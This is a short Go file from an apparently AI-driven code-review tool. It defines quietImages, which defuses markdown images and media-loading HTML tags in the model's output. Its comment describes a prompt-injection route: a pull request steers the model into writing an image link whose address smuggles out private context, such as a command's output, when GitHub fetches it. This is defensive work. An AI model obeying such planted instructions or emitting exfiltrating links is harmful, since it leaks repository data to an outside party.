package review

import (
	"regexp"
	"strings"
)

// An image in a posted comment is fetched as soon as anyone opens the pull
// request (through GitHub's camo proxy), and its address can carry text: a
// pull request that steers the model into writing
// ![](https://example.com/?q=...) could have it send on what the pack held
// that the pull request's author cannot read, such as a context command's
// output. quietImages turns every image in the answer's prose and findings
// into plain text that shows the same and loads nothing: a zero-width
// space between the ! and the [ of markdown's ![alt](url), and &lt; for the
// < of an HTML tag that loads media. Links stay links: they load nothing
// until someone chooses to follow one.

// mediaTag is the start of an HTML tag GitHub renders that loads an
// address by itself.
var mediaTag = regexp.MustCompile(`(?i)<(img|image|picture|source|video|audio|object|embed|iframe|input)\b`)

// quietImages neutralises the images of text outside code.
func quietImages(text string) string {
	return eachProse(text, func(s string) string {
		s = strings.ReplaceAll(s, "![", "!\u200b[")
		return mediaTag.ReplaceAllString(s, "&lt;$1")
	})
}
